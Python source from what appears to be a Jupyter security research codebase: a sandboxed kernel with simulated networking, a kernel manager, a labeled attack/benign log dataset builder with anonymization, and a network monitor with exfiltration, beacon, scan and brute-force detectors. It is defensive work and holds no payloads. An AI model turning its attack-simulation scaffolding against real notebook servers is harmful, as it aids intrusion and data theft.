        host, port = address
        if self._world.connect is None:
            raise ConnectionError("network unreachable (kernel is air-gapped)")
        self._chan = self._world.connect(host, int(port))
        if self._chan is None:
            raise ConnectionError(f"connection refused: {host}:{port}")
        self.connected_to = (host, int(port))
        self._world.emit("net_connect", host=host, port=int(port))
        # The channel exposes send(bytes) and sets our receive buffer.
        if hasattr(self._chan, "on_receive"):
            self._chan.on_receive(self._on_data)

    def _on_data(self, data: bytes) -> None:
        self._recv_buffer += data
        self._interp.meter.charge_net(len(data), sent=False)

    def send(self, data) -> int:
        if self._chan is None:
            raise ConnectionError("socket not connected")
        raw = bytes(data) if isinstance(data, (bytes, bytearray)) else str(data).encode()
        self._interp.meter.charge_net(len(raw))
        self._world.emit("net_send", host=self.connected_to[0], port=self.connected_to[1], nbytes=len(raw))
        self._chan.send(raw)
        return len(raw)

    sendall = send

    def recv(self, n: int = 65536) -> bytes:
        data, self._recv_buffer = self._recv_buffer[:n], self._recv_buffer[n:]
        if data:
            self._world.emit("net_recv", host=self.connected_to[0] if self.connected_to else "",
                             port=self.connected_to[1] if self.connected_to else 0, nbytes=len(data))
        return data

    def close(self) -> None:
        if self._chan is not None and hasattr(self._chan, "close"):
            self._chan.close()
        self._chan = None


def _make_socket(world: "KernelWorld", interp: "MiniPython") -> SimModule:
    return SimModule(
        "socket",
        {
            "socket": lambda *a: SimSocket(world, interp),
            "AF_INET": 2,
            "SOCK_STREAM": 1,
            "gethostname": lambda: "jupyter-node",
        },
    )


class SimResponse:
    """Minimal requests.Response."""

    def __init__(self, status_code: int, text: str):
        self.status_code = status_code
        self.text = text
        self.ok = 200 <= status_code < 300

    def json(self):
        import json

        return json.loads(self.text)


def _make_requests(world: "KernelWorld", interp: "MiniPython") -> SimModule:
    def _http(method: str, url: str, data: Any = None) -> SimResponse:
        # Parse http://host:port/path
        rest = url.split("://", 1)[-1]
        hostport, _, path = rest.partition("/")
        host, _, port_s = hostport.partition(":")
        port = int(port_s or 80)
        sock = SimSocket(world, interp)
        sock.connect((host, port))
        body = b""
        if data is not None:
            body = data if isinstance(data, bytes) else str(data).encode()
        head = (
            f"{method} /{path} HTTP/1.1\r\nHost: {hostport}\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        ).encode()
        sock.send(head + body)
        # The simulated network delivers synchronously scheduled events;
        # a response may not be available until the loop runs, so poll the
        # buffer directly (attack code mostly fires and forgets).
        raw = sock.recv()
        sock.close()
        status = 200
        text = ""
        if raw.startswith(b"HTTP/"):
            try:
                status = int(raw.split(b" ", 2)[1])
                text = raw.split(b"\r\n\r\n", 1)[-1].decode("utf-8", "replace")
            except (IndexError, ValueError):
                pass
        return SimResponse(status, text)

    return SimModule(
        "requests",
        {
            "get": lambda url, **kw: _http("GET", url),
            "post": lambda url, data=None, **kw: _http("POST", url, data),
            "put": lambda url, data=None, **kw: _http("PUT", url, data),
        },
    )


# ---------------------------------------------------------------------------
# hashlib / time / math / random / base64 / json
# ---------------------------------------------------------------------------


class _MeteredHash:
    def __init__(self, interp: "MiniPython", algo: str, data: bytes = b""):
        self._h = _real_hashlib.new(algo, data)
        self._interp = interp
        interp.meter.charge_hash()

    def update(self, data) -> None:
        self._interp.meter.charge_hash()
        self._h.update(bytes(data) if isinstance(data, (bytes, bytearray)) else str(data).encode())

    def hexdigest(self) -> str:
        return self._h.hexdigest()

    def digest(self) -> bytes:
        return self._h.digest()


def _make_hashlib(world: "KernelWorld", interp: "MiniPython") -> SimModule:
    def _factory(algo: str):
        def make(data=b""):
            raw = bytes(data) if isinstance(data, (bytes, bytearray)) else str(data).encode() if data else b""
            return _MeteredHash(interp, algo, raw)

        return make

    return SimModule(
        "hashlib",
        {"sha256": _factory("sha256"), "sha1": _factory("sha1"), "md5": _factory("md5"),
         "sha512": _factory("sha512")},
    )


def _make_time(world: "KernelWorld", interp: "MiniPython") -> SimModule:
    def sleep(seconds: float):
        if seconds < 0:
            raise ValueError("sleep length must be non-negative")
        if seconds > 3600:
            raise ValueError("sleep longer than an hour is rejected by the kernel")
        interp.meter.sleep_seconds += float(seconds)

    return SimModule(
        "time",
        {"time": lambda: world.clock.now(), "sleep": sleep, "monotonic": lambda: world.clock.now()},
    )


def _make_math() -> SimModule:
    names = [
        "sqrt", "floor", "ceil", "log", "log2", "log10", "exp", "sin", "cos",
        "tan", "pi", "e", "inf", "nan", "pow", "fabs", "gcd", "isnan", "isinf",
    ]
    return SimModule("math", {n: getattr(_real_math, n) for n in names})


def _make_random(world: "KernelWorld") -> SimModule:
    rng = DeterministicRNG(f"kernel:{world.username}")
    return SimModule(
        "random",
        {
            "random": rng.random,
            "randint": rng.randint,
            "choice": rng.choice,
            "uniform": rng.uniform,
            "gauss": rng.gauss,
            "randbytes": rng.randbytes,
            "seed": lambda *a: None,  # determinism is non-negotiable
        },
    )


def _make_base64() -> SimModule:
    import base64 as _b64

    return SimModule(
        "base64",
        {
            "b64encode": _b64.b64encode,
            "b64decode": _b64.b64decode,
            "urlsafe_b64encode": _b64.urlsafe_b64encode,
            "urlsafe_b64decode": _b64.urlsafe_b64decode,
        },
    )


def _make_json() -> SimModule:
    import json as _json

    return SimModule("json", {"dumps": _json.dumps, "loads": _json.loads})


def build_module_registry(world: "KernelWorld", interp: "MiniPython") -> Dict[str, SimModule]:
    """The import table for a kernel bound to ``world``."""
    return {
        "os": _make_os(world, interp),
        "socket": _make_socket(world, interp),
        "requests": _make_requests(world, interp),
        "hashlib": _make_hashlib(world, interp),
        "time": _make_time(world, interp),
        "math": _make_math(),
        "random": _make_random(world),
        "base64": _make_base64(),
        "json": _make_json(),
    }
