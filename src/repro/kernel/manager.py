"""Kernel lifecycle management.

Mirrors ``jupyter_client.KernelManager``: start, interrupt, restart,
shutdown, and liveness via heartbeat.  The manager owns the
:class:`~repro.kernel.world.KernelWorld` wiring so a restart produces a
fresh interpreter against the *same* filesystem — exactly the behaviour
a ransomware victim experiences ("restart the kernel" does not bring the
files back).
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional

from repro.kernel.runtime import KernelRuntime
from repro.kernel.world import KernelWorld
from repro.util.errors import ReproError
from repro.util.ids import new_id


class KernelManager:
    """Owns one kernel's lifecycle."""

    def __init__(self, world_factory: Callable[[], KernelWorld], *, key: bytes = b"", max_ops: int = 50_000_000):
        self._world_factory = world_factory
        self._key = key
        self._max_ops = max_ops
        self.kernel: Optional[KernelRuntime] = None
        self.kernel_id = new_id("k-")[:12]
        self.restarts = 0

    # -- lifecycle ----------------------------------------------------------------
    def start(self) -> KernelRuntime:
        if self.kernel is not None and self.kernel.state != "dead":
            raise ReproError("kernel already running")
        self.kernel = KernelRuntime(
            self._world_factory(), key=self._key, kernel_id=self.kernel_id, max_ops=self._max_ops
        )
        return self.kernel

    def is_alive(self) -> bool:
        if self.kernel is None:
            return False
        try:
            return self.kernel.heartbeat(b"ping") == b"ping"
        except RuntimeError:
            return False

    def interrupt(self) -> None:
        self._require_kernel().interrupted = True

    def restart(self) -> KernelRuntime:
        """Kill and relaunch; interpreter state is lost, the world persists."""
        old = self._require_kernel()
        old.state = "dead"
        world = old.world  # same filesystem and network bindings
        self.kernel = KernelRuntime(world, key=self._key, kernel_id=self.kernel_id, max_ops=self._max_ops)
        self.restarts += 1
        return self.kernel

    def shutdown(self) -> None:
        if self.kernel is not None:
            self.kernel.state = "dead"

    def _require_kernel(self) -> KernelRuntime:
        if self.kernel is None:
            raise ReproError("kernel not started")
        return self.kernel


class MultiKernelManager:
    """The server-side table of running kernels (``/api/kernels``)."""

    def __init__(self, world_factory: Callable[[], KernelWorld], *, key: bytes = b"", max_ops: int = 50_000_000):
        self._world_factory = world_factory
        self._key = key
        self._max_ops = max_ops
        self.managers: Dict[str, KernelManager] = {}

    def start_kernel(self) -> KernelRuntime:
        km = KernelManager(self._world_factory, key=self._key, max_ops=self._max_ops)
        kernel = km.start()
        self.managers[km.kernel_id] = km
        return kernel

    def get(self, kernel_id: str) -> Optional[KernelRuntime]:
        km = self.managers.get(kernel_id)
        return km.kernel if km else None

    def shutdown_kernel(self, kernel_id: str) -> bool:
        km = self.managers.pop(kernel_id, None)
        if km is None:
            return False
        km.shutdown()
        return True

    def list_ids(self) -> List[str]:
        return sorted(self.managers)

    def alive_count(self) -> int:
        return sum(1 for km in self.managers.values() if km.is_alive())
