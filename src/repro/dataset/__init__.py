"""The Jupyter Security & Resiliency Data Set (paper §IV.B).

"There is a clear need for an open-source dataset of Jupyter-related
logs in the scientific data workloads. Although NCSA can retain
longitudinal data, log anonymization and privacy-preserving sharing
need to be studied."

- :mod:`repro.dataset.builder` — generates labeled corpora: benign
  sessions interleaved with attack campaigns, exported as typed records.
- :mod:`repro.dataset.anonymize` — the anonymization pipeline:
  prefix-preserving IP pseudonymization, salted identity hashing,
  timestamp coarsening, content dropping; plus k-anonymity and
  re-identification risk metrics.
"""

from repro.dataset.anonymize import AnonymizationPolicy, Anonymizer, k_anonymity
from repro.dataset.builder import DatasetBuilder, LabeledRecord, SessionLabel

__all__ = [
    "DatasetBuilder",
    "LabeledRecord",
    "SessionLabel",
    "Anonymizer",
    "AnonymizationPolicy",
    "k_anonymity",
]
