"""Log anonymization and privacy metrics.

Implements the transformations NCSA-style sites need before releasing
logs, and the two measurements that make the privacy/utility trade-off
quantifiable (EXP-DATA):

- **prefix-preserving IP pseudonymization** — a deterministic keyed
  permutation per octet position that preserves subnet structure
  (a simplified Crypto-PAn: two IPs sharing a /16 still share their
  pseudonym's first two octets);
- **salted identity hashing** for usernames/sessions;
- **timestamp coarsening** to a configurable grid;
- **content dropping** (code bodies are the most identifying field);
- **k-anonymity** over chosen quasi-identifiers and a simple
  re-identification risk estimate (fraction of records in classes
  smaller than k).
"""

from __future__ import annotations

import hashlib
import hmac
from dataclasses import dataclass, field, replace
from typing import Dict, Iterable, List, Sequence, Tuple

from repro.dataset.builder import LabeledRecord


@dataclass(frozen=True)
class AnonymizationPolicy:
    """What to transform, keyed by a site secret."""

    key: bytes = b"site-release-key"
    pseudonymize_ips: bool = True
    hash_identities: bool = True
    coarsen_timestamps_to: float = 60.0   # 0 disables
    drop_code: bool = True
    drop_paths: bool = False

    @classmethod
    def none(cls) -> "AnonymizationPolicy":
        return cls(pseudonymize_ips=False, hash_identities=False,
                   coarsen_timestamps_to=0.0, drop_code=False)

    @classmethod
    def maximal(cls, key: bytes = b"site-release-key") -> "AnonymizationPolicy":
        return cls(key=key, coarsen_timestamps_to=600.0, drop_paths=True)


class Anonymizer:
    """Applies a policy to a labeled corpus, deterministically."""

    def __init__(self, policy: AnonymizationPolicy):
        self.policy = policy
        self._octet_maps: Dict[Tuple[int, str], Dict[int, int]] = {}

    # -- primitives -----------------------------------------------------------------
    def _prf(self, data: str) -> bytes:
        return hmac.new(self.policy.key, data.encode(), hashlib.sha256).digest()

    def pseudonymize_ip(self, ip: str) -> str:
        """Prefix-preserving: octet i's mapping is keyed by octets < i."""
        parts = ip.split(".")
        if len(parts) != 4 or not all(p.isdigit() for p in parts):
            # Not an IPv4 literal — it's a principal name (session username
            # in a notice src, "kernel", ...).  Hash it with the *identity*
            # PRF so it stays joinable with hashed username fields.
            return self.hash_identity(ip)
        out: List[str] = []
        prefix = ""
        for i, part in enumerate(parts):
            octet = int(part)
            table = self._octet_maps.get((i, prefix))
            if table is None:
                # A true keyed permutation of 0..255 per (position, prefix):
                # injective within a subnet, deterministic across runs.
                order = sorted(range(256), key=lambda o: self._prf(f"octet:{i}:{prefix}:{o}"))
                table = {orig: mapped for orig, mapped in zip(range(256), order)}
                self._octet_maps[(i, prefix)] = table
            out.append(str(table[octet]))
            prefix += part + "."
        return ".".join(out)

    def hash_identity(self, name: str) -> str:
        if not name:
            return ""
        return "u-" + self._prf("user:" + name).hex()[:10]

    def coarsen_ts(self, ts: float) -> float:
        grid = self.policy.coarsen_timestamps_to
        if grid <= 0:
            return ts
        return (ts // grid) * grid

    # -- record-level -----------------------------------------------------------------
    def anonymize_record(self, rec: LabeledRecord) -> LabeledRecord:
        p = self.policy
        fields = dict(rec.fields)
        src, dst, ts = rec.src, rec.dst, rec.ts
        if p.pseudonymize_ips:
            src = self.pseudonymize_ip(src) if src else src
            dst = self.pseudonymize_ip(dst) if dst else dst
        if p.hash_identities and "username" in fields:
            fields["username"] = self.hash_identity(str(fields["username"]))
        if p.hash_identities and "session" in fields:
            fields["session"] = self.hash_identity(str(fields["session"]))
        if p.coarsen_timestamps_to > 0:
            ts = self.coarsen_ts(ts)
        if p.drop_code and "code" in fields:
            code = str(fields.pop("code", ""))
            fields["code_size"] = fields.get("code_size", len(code))
        if p.drop_paths and "path" in fields:
            fields["path"] = "p-" + self._prf("path:" + str(fields["path"])).hex()[:8]
        return replace(rec, ts=ts, src=src, dst=dst, fields=fields)

    def anonymize(self, records: Iterable[LabeledRecord]) -> List[LabeledRecord]:
        return [self.anonymize_record(r) for r in records]


# --------------------------------------------------------------------------
# Privacy metrics
# --------------------------------------------------------------------------


def k_anonymity(records: Sequence[LabeledRecord],
                quasi_identifiers: Sequence[str] = ("src", "family")) -> int:
    """The k of the corpus: size of the smallest equivalence class over
    the quasi-identifier tuple.  Returns 0 for an empty corpus."""
    classes: Dict[Tuple, int] = {}
    for rec in records:
        key = tuple(
            getattr(rec, qi) if hasattr(rec, qi) else str(rec.fields.get(qi, ""))
            for qi in quasi_identifiers
        )
        classes[key] = classes.get(key, 0) + 1
    return min(classes.values()) if classes else 0


def reidentification_risk(records: Sequence[LabeledRecord], *, k: int = 5,
                          quasi_identifiers: Sequence[str] = ("src", "family")) -> float:
    """Fraction of records in equivalence classes smaller than ``k`` —
    the records an adversary with auxiliary data could plausibly single out."""
    classes: Dict[Tuple, int] = {}
    for rec in records:
        key = tuple(
            getattr(rec, qi) if hasattr(rec, qi) else str(rec.fields.get(qi, ""))
            for qi in quasi_identifiers
        )
        classes[key] = classes.get(key, 0) + 1
    if not records:
        return 0.0
    at_risk = sum(count for count in classes.values() if count < k)
    return at_risk / len(records)
