"""Labeled dataset generation.

A corpus is built by running a scenario: N benign sessions plus a chosen
attack mix, all against one monitored world.  Every monitor log record
is flattened into a :class:`LabeledRecord` with ground-truth labels
derived from *who actually did it* (source IPs and session usernames the
builder controls), not from detector output — so detector evaluation on
the corpus is honest.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass, field
from typing import Any, Dict, List, Optional, Sequence

from repro.attacks.base import Attack
from repro.attacks.scenario import Scenario, build_scenario
from repro.workload import ScientistWorkload


@dataclass(frozen=True)
class SessionLabel:
    """Ground truth for one traffic source."""

    source: str            # ip or username
    malicious: bool
    attack: str = ""       # attack name if malicious
    avenue: str = ""


@dataclass
class LabeledRecord:
    """One flattened log record with ground truth."""

    ts: float
    family: str            # conn | http | websocket | zmtp | jupyter | notice
    src: str
    dst: str
    fields: Dict[str, Any]
    label_malicious: bool
    label_attack: str = ""

    def to_json(self) -> str:
        return json.dumps({
            "ts": self.ts, "family": self.family, "src": self.src, "dst": self.dst,
            "fields": self.fields, "label_malicious": self.label_malicious,
            "label_attack": self.label_attack,
        }, sort_keys=True, default=str)


class DatasetBuilder:
    """Runs a mixed benign/attack campaign and exports labeled records."""

    def __init__(self, *, seed: int = 2024, benign_sessions: int = 3,
                 benign_cells_per_session: int = 6):
        self.seed = seed
        self.benign_sessions = benign_sessions
        self.benign_cells = benign_cells_per_session
        self.labels: List[SessionLabel] = []
        self.scenario: Optional[Scenario] = None

    def build(self, attacks: Sequence[Attack] = ()) -> List[LabeledRecord]:
        """Run the campaign; return the labeled corpus."""
        sc = build_scenario(seed=self.seed)
        self.scenario = sc
        malicious_sources = {sc.attacker_host.ip}
        # Benign background first (also the learning period for baselines).
        for i in range(self.benign_sessions):
            user = f"scientist{i}"
            ScientistWorkload(sc, username=user, seed_name=f"bg{i}").run_session(
                cells=self.benign_cells)
            self.labels.append(SessionLabel(source=user, malicious=False))
        # Attack campaigns. Attacks that ride a stolen user session mark
        # their session username, not the host.
        for attack in attacks:
            result = attack.run(sc)
            self.labels.append(SessionLabel(
                source=sc.attacker_host.ip, malicious=True,
                attack=attack.name, avenue=attack.avenue.value,
            ))
        sc.run(30.0)
        return self.flatten(sc, malicious_sources)

    # -- flattening -------------------------------------------------------------------
    def flatten(self, sc: Scenario, malicious_sources: set) -> List[LabeledRecord]:
        malicious_users = {"attacker", "attacker-via-stolen-session"}
        records: List[LabeledRecord] = []

        def is_bad(src: str, username: str = "") -> bool:
            return (src in malicious_sources or src in malicious_users
                    or username in malicious_users)

        attack_by_source = {l.source: l.attack for l in self.labels if l.malicious}

        for c in sc.monitor.logs.conn:
            records.append(LabeledRecord(
                ts=c.ts, family="conn", src=c.src, dst=c.dst,
                fields={"service": c.service, "bytes_orig": c.bytes_orig,
                        "bytes_resp": c.bytes_resp, "duration": c.duration},
                label_malicious=is_bad(c.src),
                label_attack=attack_by_source.get(c.src, ""),
            ))
        for h in sc.monitor.logs.http:
            records.append(LabeledRecord(
                ts=h.ts, family="http", src=h.src, dst=h.dst,
                fields={"method": h.method, "path": h.path, "status": h.status,
                        "request_bytes": h.request_bytes},
                label_malicious=is_bad(h.src),
                label_attack=attack_by_source.get(h.src, ""),
            ))
        for w in sc.monitor.logs.websocket:
            records.append(LabeledRecord(
                ts=w.ts, family="websocket", src=w.src, dst=w.dst,
                fields={"opcode": w.opcode, "payload_bytes": w.payload_bytes,
                        "entropy": w.entropy},
                label_malicious=is_bad(w.src),
            ))
        for j in sc.monitor.logs.jupyter:
            records.append(LabeledRecord(
                ts=j.ts, family="jupyter", src=j.src, dst=j.dst,
                fields={"channel": j.channel, "msg_type": j.msg_type,
                        "username": j.username, "code_size": j.code_size,
                        "code": j.code, "session": j.session},
                label_malicious=is_bad(j.src, j.username),
            ))
        for n in sc.monitor.logs.notices:
            records.append(LabeledRecord(
                ts=n.ts, family="notice", src=n.src, dst=n.dst,
                fields={"name": n.name, "severity": n.severity,
                        "detector": n.detector,
                        "avenue": n.avenue.value if n.avenue else ""},
                label_malicious=is_bad(n.src),
            ))
        records.sort(key=lambda r: r.ts)
        return records

    @staticmethod
    def export_jsonl(records: List[LabeledRecord]) -> str:
        return "\n".join(r.to_json() for r in records)

    @staticmethod
    def summary(records: List[LabeledRecord]) -> Dict[str, Any]:
        by_family: Dict[str, int] = {}
        malicious = 0
        for r in records:
            by_family[r.family] = by_family.get(r.family, 0) + 1
            malicious += int(r.label_malicious)
        return {
            "records": len(records),
            "malicious": malicious,
            "benign": len(records) - malicious,
            "families": by_family,
        }
