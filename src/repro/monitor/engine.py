"""The monitor engine: reassembly, protocol analyzers, detector fan-out.

One :class:`JupyterNetworkMonitor` subscribes to a simnet tap.  Per
connection and direction it keeps an analyzer state machine:

    unknown → http  (request line seen)          → websocket (101 upgrade)
            → zmtp  (ZMTP signature seen)

Each decoded layer appends to the :class:`~repro.monitor.logs.LogStore`
and feeds the signature engine and anomaly detectors.  The engine also
keeps a *processing budget*: a configurable events/sec ceiling that,
when exceeded (monitor-DoS), forces segment drops — the integrity-of-
the-monitor failure mode the paper's §IV.A warns about.
"""

from __future__ import annotations

import json
from collections import OrderedDict
from dataclasses import dataclass, field
from enum import IntEnum
from typing import Any, Dict, List, Optional, Tuple

from repro.monitor.anomaly import (
    BeaconDetector,
    BruteForceDetector,
    CusumEgressDetector,
    EgressVolumeDetector,
    EntropyBurstDetector,
    NewSourceDetector,
    ScanDetector,
    TenantSweepDetector,
)
from repro.monitor.logs import (
    ConnRecord,
    HttpRecord,
    JupyterMsgRecord,
    LogStore,
    Notice,
    WebSocketRecord,
    WeirdRecord,
    ZmtpRecord,
)
from repro.monitor.signatures import SignatureEngine
from repro.simnet import NetworkTap, Segment
from repro.taxonomy.oscrp import Avenue
from repro.util.errors import ProtocolError
from repro.wire.buffer import ByteCursor
from repro.wire.http import parse_request_from, parse_response_from
from repro.wire.jupyter import (
    PROF_WS_FALLBACK,
    PROF_WS_PROBE,
    PROF_ZMTP_PROBE,
    SPAN_SCAN_THRESHOLD,
    LazyJupyterMessage,
    _json_decode,
    probe_ws_canonical,
    probe_zmtp_header,
)
from repro.wire.websocket import Opcode, WebSocketDecoder
from repro.wire.zmtp import SIGNATURE_PREFIX, ZmtpDecoder


class AnalyzerDepth(IntEnum):
    """How deep the monitor parses.  Each level includes the previous."""

    CONN = 0       # five-tuples and byte counts only
    HTTP = 1       # + HTTP transactions
    WEBSOCKET = 2  # + WebSocket frames/messages
    ZMTP = 3       # + ZeroMQ framing on kernel ports
    JUPYTER = 4    # + Jupyter message semantics (both framings)


class _DirState:
    """Analyzer state for one direction of one connection."""

    __slots__ = ("buffer", "protocol", "ws_decoder", "zmtp_decoder", "http_requests")

    def __init__(self) -> None:
        self.buffer = ByteCursor()
        self.protocol = "unknown"
        self.ws_decoder: Optional[WebSocketDecoder] = None
        self.zmtp_decoder: Optional[ZmtpDecoder] = None
        self.http_requests: List[Tuple[str, str]] = []  # (method, path) pending responses


_HTTP_METHODS = (b"GET ", b"POST", b"PUT ", b"DELE", b"PATC", b"HEAD", b"OPTI")

#: Opcode -> lowercase name, hoisted out of the per-message hot loop.
_OPCODE_NAMES = {op: op.name.lower() for op in Opcode}


@dataclass
class MonitorHealth:
    """Self-metrics (the DoS-resilience experiment reads these)."""

    segments_seen: int = 0
    segments_dropped: int = 0
    bytes_seen: int = 0
    parse_errors: int = 0
    # Per-layer byte accounting: how much of the stream each analyzer
    # actually consumed (decoder ``bytes_consumed`` deltas, so the WS and
    # ZMTP numbers line up with the wire-level counters).
    bytes_http: int = 0
    bytes_ws: int = 0
    bytes_zmtp: int = 0
    # msg_id dedupe between the WS and ZMTP legs (and proxied WS relays)
    # of the same kernel message: how often the JUPYTER analyzer skipped
    # the content parse + detector fan-out because another leg already
    # paid for it.  At a hub tap most messages appear 2-3 times, so the
    # hit rate is the fraction of C-JSON work the dedupe saved.
    jupyter_msgs: int = 0
    jupyter_dedup_hits: int = 0

    @property
    def drop_rate(self) -> float:
        return self.segments_dropped / self.segments_seen if self.segments_seen else 0.0

    @property
    def dedupe_hit_rate(self) -> float:
        return self.jupyter_dedup_hits / self.jupyter_msgs if self.jupyter_msgs else 0.0

    def layer_bytes(self) -> Dict[str, int]:
        return {"http": self.bytes_http, "websocket": self.bytes_ws, "zmtp": self.bytes_zmtp}


#: Dedupe-store flags: which legs of a msg_id the analyzer has seen, and
#: whether any leg already paid the content parse + signature scan.
_MSG_WS_SEEN = 1
_MSG_ZMTP_SEEN = 2
_MSG_CONTENT_SCANNED = 4

#: Bound on the msg_id dedupe store (LRU).  Legs of one message arrive
#: within milliseconds of each other; thousands of distinct in-flight
#: messages of slack is far more than any tap needs.
_MSG_DEDUPE_CAP = 8192

#: Jupyter wire-protocol multipart delimiter between routing identities
#: and the signed message frames.
_ZMTP_DELIM = b"<IDS|MSG>"

#: Flamegraph frames for the engine's two drain loops (units = bytes
#: consumed per drained batch; see repro.telemetry.profiler).
_PROF_FEED_WS = ("hot", "monitor.engine", "_feed_ws")
_PROF_FEED_ZMTP = ("hot", "monitor.engine", "_feed_zmtp")


class JupyterNetworkMonitor:
    """The paper's proposed network monitoring tool."""

    def __init__(
        self,
        *,
        depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
        signatures: Optional[SignatureEngine] = None,
        session_key: bytes = b"",
        budget_events_per_second: float = 0.0,  # 0 = unlimited
        internal_prefix: str = "10.",
        output_size_threshold: int = 16_384,
        infrastructure_ips: Optional[set] = None,
        max_buffered_bytes: int = 64 << 20,  # per-direction reassembly cap
        dedupe_msg_ids: bool = True,
        telemetry=None,
        name: str = "monitor0",
    ):
        from repro.telemetry import Telemetry

        #: Own-infrastructure sources (e.g. a hub reverse proxy) whose
        #: authenticated traffic is plumbing, not a client logging in —
        #: excluded from auth-outcome detectors so the proxy's backend
        #: leg never reads as a stolen credential or a brute force.
        self.infrastructure_ips = infrastructure_ips or set()
        self.output_size_threshold = output_size_threshold
        #: Cap on any one direction's unparsed reassembly buffer: a peer
        #: that opens with an HTTP-looking prefix and then never
        #: completes a message (withholding-peer DoS) is marked broken
        #: instead of growing monitor memory and rescan cost.  Sized
        #: above anything a backend would actually accept (the hub proxy
        #: allows 32 MiB uploads) so legitimate traffic never trips it.
        #: 0 = off.
        self.max_buffered_bytes = max_buffered_bytes
        self.depth = depth
        self.logs = LogStore()
        self.signatures = signatures or SignatureEngine()
        self.session_key = session_key
        self.health = MonitorHealth()
        self.budget = budget_events_per_second
        self.internal_prefix = internal_prefix
        # Depth gates as plain bools: IntEnum rich comparison costs
        # ~200 ns, which the per-segment paths cannot afford.
        self._depth_http = depth >= AnalyzerDepth.HTTP
        self._depth_ws = depth >= AnalyzerDepth.WEBSOCKET
        self._depth_zmtp = depth >= AnalyzerDepth.ZMTP
        self._depth_jup = depth >= AnalyzerDepth.JUPYTER
        self._budget_bucket: Tuple[int, int] = (0, 0)  # (second, events)
        self._conns: Dict[str, ConnRecord] = {}
        self._dirstate: Dict[Tuple[str, str], _DirState] = {}
        #: One kernel message crosses the tap several times — the WS legs
        #: either side of a hub proxy plus the server↔kernel ZMTP hop.
        #: The first leg at each layer pays the full analysis; later legs
        #: are recognized by header msg_id and skip the content JSON
        #: parse and detector fan-out (hit rate in ``health``).
        self.dedupe_msg_ids = dedupe_msg_ids
        self._seen_msg_ids: Dict[str, int] = {}
        #: Pre-bound hot-path targets (all constructor-stable objects),
        #: loaded with one attribute walk + tuple unpack per drained
        #: message batch instead of half a dozen walks each.
        self._hot = (
            self.logs.websocket.append, self.logs.zmtp.append,
            self.logs.jupyter.append, self.logs.weird.append,
            self._seen_msg_ids, self.signatures.scan_jupyter, self.health,
        )
        # Slab-reused scratch lists for the non-canonical WS analysis
        # path: drained into the log store after every use, so the slow
        # path allocates no per-call list objects either.
        self._scratch_records: List[JupyterMsgRecord] = []
        self._scratch_notices: List[Notice] = []
        self._scratch_weird: List[WeirdRecord] = []
        #: (src, dst) -> "is internal→external" cache for the byte-level
        #: detector gate (all three share it; see :meth:`on_segment`).
        self._egress_flows: Dict[Tuple[str, str], bool] = {}
        # Detector suite.
        self.entropy = EntropyBurstDetector()
        self.egress = EgressVolumeDetector(internal_prefix=internal_prefix)
        self.cusum = CusumEgressDetector(internal_prefix=internal_prefix)
        self.beacon = BeaconDetector(internal_prefix=internal_prefix)
        self.bruteforce = BruteForceDetector()
        self.scan = ScanDetector()
        self.newsource = NewSourceDetector()
        self.tenantsweep = TenantSweepDetector()
        # Deferred import: repro.traffic pulls in the monitor package, so
        # importing it at module top would leave traffic.pattern half
        # initialized whenever the traffic package loads first.
        from repro.traffic.pattern import TrafficPatternDetector

        self.trafficpattern = TrafficPatternDetector()
        self.detectors = [self.entropy, self.egress, self.cusum, self.beacon,
                          self.bruteforce, self.scan, self.newsource,
                          self.tenantsweep, self.trafficpattern]
        # Telemetry: shared registry/tracer/timeline (see repro.telemetry).
        # Health counters surface via a scrape-time collector; the causal
        # join (proxy request → detector hit) resolves the X-Request-Id the
        # proxy stamps on backend legs.  One cached boolean gates it all.
        self.name = name
        self.telemetry = telemetry if telemetry is not None else Telemetry.disabled()
        self._tele_on = self.telemetry.enabled
        #: client source ip → the trace context of its latest front-door
        #: request (bounded LRU); notices parent to this.
        self._src_ctx: "OrderedDict[str, object]" = OrderedDict()
        self._ws_counters = self.telemetry.decoder_counters("websocket", name)
        self._zmtp_counters = self.telemetry.decoder_counters("zmtp", name)
        #: Work-unit profiler, or None when the world isn't being
        #: profiled — every hook below an ``is not None`` guard.  The
        #: signature engine gets the same handle so its scan frames land
        #: in the one per-world flamegraph.
        self._prof = self.telemetry.profiler if self._tele_on else None
        self.signatures.profiler = self._prof
        if self._tele_on:
            self._register_metrics()

    _SRC_CTX_CAP = 1024

    def _register_metrics(self) -> None:
        """Surface :class:`MonitorHealth` through the shared registry —
        collect-at-scrape, so the segment hot path never touches it."""
        reg = self.telemetry.registry
        name = self.name

        def counter(metric: str, help_text: str):
            return reg.counter(metric, help_text,
                               labels=("monitor",)).labels(monitor=name)

        counters = {
            "segments_seen": counter("monitor_segments_total",
                                     "Segments delivered by the tap"),
            "segments_dropped": counter("monitor_segments_dropped_total",
                                        "Segments dropped by the DoS budget"),
            "bytes_seen": counter("monitor_bytes_total", "Bytes crossing the tap"),
            "parse_errors": counter("monitor_parse_errors_total",
                                    "Directions marked broken by a parse error"),
            "jupyter_msgs": counter("monitor_jupyter_msgs_total",
                                    "Jupyter messages analyzed (all legs)"),
            "jupyter_dedup_hits": counter("monitor_jupyter_dedup_hits_total",
                                          "Legs that skipped content analysis"),
        }
        layer_bytes = reg.counter("monitor_layer_bytes_total",
                                  "Bytes consumed per protocol analyzer",
                                  labels=("monitor", "layer"))
        layer_insts = {layer: layer_bytes.labels(monitor=name, layer=layer)
                       for layer in ("http", "websocket", "zmtp")}
        notices_c = counter("monitor_notices_total", "Detector notices raised")

        def collect() -> None:
            h = self.health
            for field_name, inst in counters.items():
                inst.set(getattr(h, field_name))
            for layer, nbytes in h.layer_bytes().items():
                layer_insts[layer].set(nbytes)
            notices_c.set(len(self.logs.notices))

        reg.register_collector(collect)

    def _remember_ctx(self, src: str, ctx) -> None:
        m = self._src_ctx
        m[src] = ctx
        m.move_to_end(src)
        if len(m) > self._SRC_CTX_CAP:
            m.popitem(last=False)

    def _stamp(self, notice: Notice) -> None:
        """Give a notice its trace identity: a ``detector.hit`` span
        parented to the source's latest front-door request (when the
        proxy's ``X-Request-Id`` resolved one) plus a timeline event."""
        ctx = self._src_ctx.get(notice.src)
        span = self.telemetry.tracer.start_span(
            "detector.hit", parent=ctx, ts=notice.ts,
            detector=notice.detector, notice=notice.name,
            severity=notice.severity, src=notice.src, monitor=self.name)
        span.finish(notice.ts)
